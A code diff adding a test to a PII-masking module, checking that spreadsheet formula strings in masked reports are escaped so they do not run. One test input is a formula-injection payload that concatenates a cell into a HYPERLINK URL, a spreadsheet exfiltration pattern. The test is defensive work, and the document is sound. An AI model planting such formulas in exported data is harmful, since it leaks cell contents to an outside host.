@@ -88,3 +88,10 @@ def test_no_masked_form_holds_the_value(value: str, category: str) -> None:
     assert len(masked) <= MAX_INPUT
     for start in range(len(value) - 5):
         assert value[start:start + 6] not in masked
+
+
+def test_reports_opened_in_a_spreadsheet_run_no_formula() -> None:
+    from pii_hooks.mask import mask_label, mask_value
+    assert mask_label('=HYPERLINK("http://x?"&A1,"click")').startswith("'=")
+    assert not mask_value('=1+2').startswith('=')
+    assert mask_label('-12') == '-12' and mask_label('Email') == 'Email'
